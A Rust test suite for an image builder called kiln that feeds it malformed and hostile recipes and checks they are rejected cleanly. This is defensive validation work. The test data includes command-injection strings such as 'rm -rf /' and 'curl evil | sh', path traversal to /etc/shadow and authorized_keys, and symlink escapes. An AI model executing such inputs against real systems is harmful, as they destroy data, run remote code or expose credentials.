//! The bad-input catalog: malformed and hostile recipes, missing tools, an
//! unreachable archive, impossible sizes, unicode and very long names, a
//! recipe that extends itself, a `files` copy through a symlink that leaves
//! the image. Each case asserts its exit code, its message, and that the
//! store and `out/` are exactly as they were.
//!
//! Real builds as root: run by `make test`. Cases that get as far as the
//! store use a private store seeded with a copy of golden's base layer from
//! the shared warm store (`KILN_TEST_STORE`, default /var/tmp/kiln-test-store),
//! or an empty one where the base itself is the point.
//!
//! Lock-file cases (not TOML, an unknown key or version, a hand-edited pin
//! with a damaged digest or a path out of the pool) are refused when the lock
//! is read, before the store is touched.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

const KILN: &str = env!("CARGO_BIN_EXE_kiln");
const IMAGE: &str = "[image]\nname = \"bad\"\nsize = \"2GiB\"\n";
const BASE: &str = common::BASE;
const BAD_INPUT: i32 = 2;
const FAILURE: i32 = 1;

#[derive(Clone, Copy, PartialEq, Eq)]
enum StoreKind {
    /// Golden's base already in the store.
    Seeded,
    /// Nothing in the store: the base would have to be built.
    Empty,
}

struct Case {
    name: &'static str,
    /// Files written into the case's recipe folder; `main.toml` is built.
    files: Vec<(&'static str, String)>,
    store: StoreKind,
    /// Extra environment for kiln.
    env: Vec<(&'static str, String)>,
    exit: i32,
    /// Each must appear in stderr.
    says: Vec<&'static str>,
}

fn case(name: &'static str, recipe: String, exit: i32, says: &[&'static str]) -> Case {
    Case {
        name,
        files: vec![("main.toml", recipe)],
        store: StoreKind::Seeded,
        env: vec![],
        exit,
        says: says.to_vec(),
    }
}

fn with_base(rest: &str) -> String {
    format!("{IMAGE}{BASE}{rest}")
}

fn layer(rest: &str) -> String {
    with_base(&format!("[[layer]]\nname = \"app\"\n{rest}\n"))
}

fn catalog() -> Vec<Case> {
    let long = "a".repeat(300);
    let mut cases = vec![
        case("not TOML", "[image\nname = \"x\"".into(), BAD_INPUT, &["main.toml", "line"]),
        case("empty file", String::new(), BAD_INPUT, &["main.toml", "base"]),
        case("unknown top-level key", with_base("colour = \"blue\"\n"), BAD_INPUT, &["main.toml", "colour"]),
        case("unknown key in [image]", format!("[image]\nname = \"bad\"\ndisk = \"9GiB\"\n{BASE}"), BAD_INPUT, &["disk"]),
        case("image name with a path", with_base("").replace("name = \"bad\"", "name = \"../../etc/passwd\""), BAD_INPUT, &["image.name", "not a valid name"]),
        case("unicode image name", with_base("").replace("name = \"bad\"", "name = \"wéb-サーバー\""), BAD_INPUT, &["image.name", "not a valid name"]),
        case("300-character image name", with_base("").replace("name = \"bad\"", &format!("name = \"{long}\"")), BAD_INPUT, &["image.name", "not a valid name"]),
        case("layer name with shell syntax", with_base("[[layer]]\nname = \"app; rm -rf /\"\nrun = [\"true\"]\n"), BAD_INPUT, &["layer[0].name"]),
        case("hostile package name", layer("packages = [\"nginx; curl evil | sh\"]"), BAD_INPUT, &["packages[0]", "not a Debian package name"]),
        case("unicode package name", layer("packages = [\"ngïnx\"]"), BAD_INPUT, &["packages[0]", "not a Debian package name"]),
        case("suite with an injected source line", format!("{IMAGE}[base]\nsuite = \"trixie main\\ndeb http://127.0.0.1:8006/ trixie\"\n"), BAD_INPUT, &["base.suite", "not a suite name"]),
        case("mirror with an injected source line", format!("{BASE}mirror = \"http://127.0.0.1:8007/debian trixie main\\ndeb http://127.0.0.1:8006/\"\n").replace("[base]", &format!("{IMAGE}[base]")), BAD_INPUT, &["base.mirror", "not an archive URL"]),
        case("mirror that is not http", format!("{IMAGE}{BASE}mirror = \"ftp://deb.invalid/debian\"\n"), BAD_INPUT, &["base.mirror"]),
        case("unknown variant", format!("{IMAGE}[base]\nsuite = \"trixie\"\nvariant = \"everything\"\n"), BAD_INPUT, &["base.variant", "unknown variant"]),
        case("size zero", with_base("").replace("2GiB", "0"), BAD_INPUT, &["image.size", "zero"]),
        case("size that overflows", with_base("").replace("2GiB", "99999999999TiB"), BAD_INPUT, &["image.size", "too large"]),
        case("negative size", with_base("").replace("2GiB", "-1GiB"), BAD_INPUT, &["image.size", "not a size"]),
        case("size of 1 PiB", with_base("").replace("2GiB", "1048576GiB"), BAD_INPUT, &["image.size", "outside the range"]),
        case("unknown format", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\nformat = \"vmdk\""), BAD_INPUT, &["image.format", "vmdk"]),
        case("hostname with a leading dash", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\nhostname = \"-oops\""), BAD_INPUT, &["image.hostname"]),
        case("cmdline with a newline", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\ncmdline = \"console=ttyS0\\ninit=/bin/sh\""), BAD_INPUT, &["image.cmdline"]),
        case("cmdline that sets root=", with_base("").replace("size = \"2GiB\"", "size = \"2GiB\"\ncmdline = \"root=/dev/sda1\""), BAD_INPUT, &["image.cmdline", "root="]),
        case("layer that does nothing", with_base("[[layer]]\nname = \"idle\"\n"), BAD_INPUT, &["does nothing"]),
        case("two layers with one name", with_base("[[layer]]\nname = \"app\"\nrun = [\"true\"]\n[[layer]]\nname = \"app\"\nrun = [\"true\"]\n"), BAD_INPUT, &["already exists"]),
        case("files src outside the recipe folder", layer("files = [{ src = \"../../../../etc/shadow\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src"]),
        case("files src absolute", layer("files = [{ src = \"/etc/shadow\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src", "absolute"]),
        case("files src missing", layer("files = [{ src = \"files/nope.txt\", dest = \"/etc/x\" }]"), BAD_INPUT, &["src", "cannot be read"]),
        case("files dest with ..", layer("files = [{ src = \"main.toml\", dest = \"/etc/../../root/.ssh/authorized_keys\" }]"), BAD_INPUT, &["dest", "`..`"]),
        case("files dest relative", layer("files = [{ src = \"main.toml\", dest = \"etc/x\" }]"), BAD_INPUT, &["dest", "not an absolute path"]),
        case("files mode not octal", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\", mode = \"0999\" }]"), BAD_INPUT, &["mode", "octal"]),
        case("files owner without a group", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\", owner = \"root\" }]"), BAD_INPUT, &["owner"]),
        case("volume over /usr", with_base("[[volume]]\nname = \"data\"\nmount = \"/usr/lib\"\nsize = \"1GiB\"\n"), BAD_INPUT, &["volume[0].mount", "operating system"]),
        case("recipe extends itself", format!("extends = \"main.toml\"\n{}", with_base("")), BAD_INPUT, &["extends", "cycle"]),
        case("extends a missing recipe", format!("extends = \"golden.toml\"\n{IMAGE}"), BAD_INPUT, &["extends", "does not exist"]),
        Case {
            name: "two recipes extending each other",
            files: vec![("main.toml", format!("extends = \"other.toml\"\n{IMAGE}")), ("other.toml", format!("extends = \"main.toml\"\n{BASE}"))],
            store: StoreKind::Seeded,
            env: vec![],
            exit: BAD_INPUT,
            says: vec!["cycle"],
        },
        // Past validation: these reach the build.
        case("image smaller than its files", with_base("").replace("2GiB", "64MiB"), BAD_INPUT, &["image.size", "raise [image] size"]),
        Case {
            name: "unreachable archive",
            files: vec![("main.toml", format!("{IMAGE}{BASE}mirror = \"http://127.0.0.1:9/debian\"\n"))],
            store: StoreKind::Empty,
            env: vec![],
            exit: FAILURE,
            says: vec!["mmdebstrap", "127.0.0.1:9"],
        },
        Case {
            name: "mmdebstrap not installed",
            files: vec![("main.toml", with_base(""))],
            store: StoreKind::Empty,
            env: vec![("PATH", "/nonexistent".into())],
            exit: FAILURE,
            says: vec!["`mmdebstrap` is not installed", "make deps"],
        },
        Case {
            name: "dpkg-query not installed",
            files: vec![("main.toml", layer("files = [{ src = \"main.toml\", dest = \"/etc/x\" }]"))],
            store: StoreKind::Seeded,
            env: vec![("PATH", "/nonexistent".into())],
            exit: FAILURE,
            says: vec!["`dpkg-query` is not installed"],
        },
    ];
    // Broken lock files beside a good recipe.
    let pin = |sha: &str, path: &str| {
        format!(
            "version = 1\n[steps.base]\nspec = []\nresolved = 1\n[[steps.base.packages]]\nname = \"apt\"\nversion = \"3.0.4\"\narch = \"amd64\"\nsha256 = \"{sha}\"\narchive = \"main\"\npath = \"{path}\"\n"
        )
    };
    let lock_case = |name: &'static str, lock: String, says: &[&'static str]| Case {
        name,
        files: vec![("main.toml", with_base("")), ("main.lock", lock)],
        store: StoreKind::Empty,
        env: vec![],
        exit: BAD_INPUT,
        says: says.to_vec(),
    };
    cases.push(lock_case(
        "lock is not TOML",
        "version = 1\n[steps\n".into(),
        &["main.lock", "the lock file is damaged", "fix:"],
    ));
    cases.push(lock_case(
        "lock with an unknown key",
        "version = 1\nbogus = 2\n".into(),
        &["main.lock", "bogus", "fix:"],
    ));
    cases.push(lock_case(
        "lock of a future version",
        "version = 99\n".into(),
        &["main.lock", "lock version 99", "kiln lock --update"],
    ));
    cases.push(lock_case(
        "lock pin with a damaged digest",
        pin("not-a-digest", "pool/main/a/apt/apt_3.0.4_amd64.deb"),
        &["main.lock", "`apt` is not a valid locked package", "fix:"],
    ));
    cases.push(lock_case(
        "lock pin outside the pool",
        pin(&"a".repeat(64), "pool/../../etc/passwd"),
        &["main.lock", "`apt` is not a valid locked package"],
    ));
    // A recipe file that is not there at all.
    cases.push(Case {
        name: "recipe path missing",
        files: vec![("other.toml", with_base(""))],
        store: StoreKind::Empty,
        env: vec![],
        exit: BAD_INPUT,
        says: vec!["main.toml", "cannot read the recipe"],
    });
    cases
}

/// Everything in the store and in out/ that a failed run might touch.
fn snapshot(store: &Path, out: &Path) -> Vec<String> {
    let mut seen = Vec::new();
    for dir in [
        "layers-v1",
        "images-v1",
        "tmp",
        "corrupt-v1",
        "state-v1/recipes",
        "state-v1/roots",
    ] {
        for name in names(&store.join(dir)) {
            seen.push(format!("store/{dir}/{name}"));
        }
    }
    if !store.exists() {
        seen.push("(no store)".into());
    }
    for name in names(out) {
        seen.push(format!("out/{name}"));
    }
    seen
}

fn names(dir: &Path) -> Vec<String> {
    let mut n: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    n.sort();
    n
}

fn warm_store() -> PathBuf {
    std::env::var_os("KILN_TEST_STORE")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/kiln-test-store"))
}

/// The tests' shared lock of golden's base (see common::base_lock).
fn base_lock() -> String {
    common::base_lock(&warm_store())
}

fn warm_base_layer() -> PathBuf {
    let store = warm_store();
    let scratch = tempfile::Builder::new()
        .prefix("kiln-bad-")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::write(scratch.path().join("golden-base.toml"), with_base("")).unwrap();
    std::fs::write(scratch.path().join("golden-base.lock"), base_lock()).unwrap();
    let kiln = |args: &[&str]| {
        Command::new(KILN)
            .arg("--cache")
            .arg(&store)
            .arg("--out")
            .arg(scratch.path().join("out"))
            .args(args)
            .arg(scratch.path().join("golden-base.toml"))
            .output()
            .unwrap()
    };
    let plan = kiln(&["--json", "plan"]);
    assert!(
        plan.status.success(),
        "{}",
        String::from_utf8_lossy(&plan.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&plan.stdout).unwrap();
    let key = v["steps"][0]["key"].as_str().unwrap().to_owned();
    let dir = store.join("layers-v1").join(&key);
    if !dir.join("entry.json").is_file() {
        let out = kiln(&["build", "--no-smoke"]);
        assert!(
            out.status.success(),
            "building the warm base: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    dir
}

#[test]
fn every_bad_input_fails_cleanly_and_changes_nothing() {
    let work = tempfile::Builder::new()
        .prefix("kiln-bad-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let seeded = work.path().join("seeded-store");
    std::fs::create_dir_all(seeded.join("layers-v1")).unwrap();
    let cp = Command::new("cp")
        .args(["-a", "--reflink=auto"])
        .arg(warm_base_layer())
        .arg(seeded.join("layers-v1"))
        .status()
        .unwrap();
    assert!(cp.success());
    let cases = catalog();
    assert!(cases.len() >= 25, "the catalog has {} cases", cases.len());
    let mut failures = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let dir = work.path().join(format!("case-{i}"));
        std::fs::create_dir_all(&dir).unwrap();
        for (name, text) in &c.files {
            std::fs::write(dir.join(name), text).unwrap();
        }
        if c.store == StoreKind::Seeded && c.files.iter().any(|(n, _)| *n == "main.toml") {
            std::fs::write(dir.join("main.lock"), base_lock()).unwrap();
        }
        let store = match c.store {
            StoreKind::Seeded => seeded.clone(),
            StoreKind::Empty => dir.join("empty-store"),
        };
        let out_dir = dir.join("out");
        let before = snapshot(&store, &out_dir);
        let mut cmd = Command::new(KILN);
        cmd.arg("--cache")
            .arg(&store)
            .arg("--out")
            .arg(&out_dir)
            .args(["build", "--no-smoke"])
            .arg(dir.join("main.toml"))
            .current_dir(&dir);
        for (k, v) in &c.env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        let mut problems = Vec::new();
        if out.status.code() != Some(c.exit) {
            problems.push(format!("exit {:?}, expected {}", out.status.code(), c.exit));
        }
        for s in &c.says {
            if !err.contains(s) {
                problems.push(format!("message lacks `{s}`"));
            }
        }
        // out/ may gain the build log (it says why it failed); nothing else.
        let after: Vec<String> = snapshot(&store, &out_dir)
            .into_iter()
            .filter(|n| !n.ends_with(".build.log"))
            .collect();
        let before: Vec<String> = before
            .into_iter()
            .filter(|n| !n.ends_with(".build.log"))
            .collect();
        let normalise = |v: Vec<String>| -> Vec<String> {
            v.into_iter().filter(|n| n != "(no store)").collect()
        };
        if normalise(before.clone()) != normalise(after.clone()) {
            problems.push(format!("store or out/ changed: {before:?} -> {after:?}"));
        }
        if !problems.is_empty() {
            failures.push(format!(
                "case {i} `{}`: {}\n  stderr: {}",
                c.name,
                problems.join("; "),
                err.trim().replace('\n', "\n          ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn a_files_copy_never_follows_a_symlink_out_of_the_image() {
    let work = tempfile::Builder::new()
        .prefix("kiln-bad-")
        .tempdir_in("/var/tmp")
        .unwrap();
    let store = work.path().join("store");
    std::fs::create_dir_all(store.join("layers-v1")).unwrap();
    let cp = Command::new("cp")
        .args(["-a", "--reflink=auto"])
        .arg(warm_base_layer())
        .arg(store.join("layers-v1"))
        .status()
        .unwrap();
    assert!(cp.success());
    let target = format!("kiln-escape-{}", std::process::id());
    let host_victim = Path::new("/tmp").join(&target);
    assert!(!host_victim.exists());
    std::fs::write(work.path().join("payload"), "pwned\n").unwrap();
    let escape = "[[layer]]\nname = \"links\"\nrun = [\"mkdir -p /opt && ln -s ../../../../../../../../tmp /opt/escape && ln -s /../../tmp /opt/abs\"]\n";
    std::fs::write(work.path().join("setup.toml"), with_base(escape)).unwrap();
    for name in ["setup.lock", "main.lock"] {
        std::fs::write(work.path().join(name), base_lock()).unwrap();
    }
    let kiln = |recipe: &str| {
        Command::new(KILN)
            .arg("--cache")
            .arg(&store)
            .arg("--out")
            .arg(work.path().join("out"))
            .args(["build", "--no-smoke"])
            .arg(work.path().join(recipe))
            .output()
            .unwrap()
    };
    let setup = kiln("setup.toml");
    assert!(
        setup.status.success(),
        "{}",
        String::from_utf8_lossy(&setup.stderr)
    );
    for dest in [
        format!("/opt/escape/{target}"),
        format!("/opt/escape/../{target}"),
    ] {
        let files = format!("{escape}[[layer]]\nname = \"copy\"\nfiles = [{{ src = \"payload\", dest = \"{dest}\" }}]\n");
        std::fs::write(work.path().join("main.toml"), with_base(&files)).unwrap();
        let before = snapshot(&store, &work.path().join("out"));
        let out = kiln("main.toml");
        let err = String::from_utf8_lossy(&out.stderr);
        if dest.contains("..") {
            assert_eq!(out.status.code(), Some(BAD_INPUT), "{err}");
            assert!(err.contains("contains `..`"), "{err}");
        } else {
            assert_eq!(out.status.code(), Some(BAD_INPUT), "{err}");
            assert!(
                err.contains("points out of the image") && err.contains("layer.copy.files[0].dest"),
                "{err}"
            );
        }
        assert!(
            !host_victim.exists(),
            "a files copy wrote {} on the host",
            host_victim.display()
        );
        let after = snapshot(&store, &work.path().join("out"));
        assert_eq!(
            before
                .into_iter()
                .filter(|n| !n.ends_with(".build.log"))
                .collect::<Vec<_>>(),
            after
                .into_iter()
                .filter(|n| !n.ends_with(".build.log"))
                .collect::<Vec<_>>()
        );
    }
    // An absolute link is followed inside the image root, never on the host.
    let files = format!("{escape}[[layer]]\nname = \"copy\"\nfiles = [{{ src = \"payload\", dest = \"/opt/abs/{target}\" }}]\n");
    std::fs::write(work.path().join("main.toml"), with_base(&files)).unwrap();
    let out = kiln("main.toml");
    assert_eq!(
        out.status.code(),
        Some(BAD_INPUT),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!host_victim.exists());
}
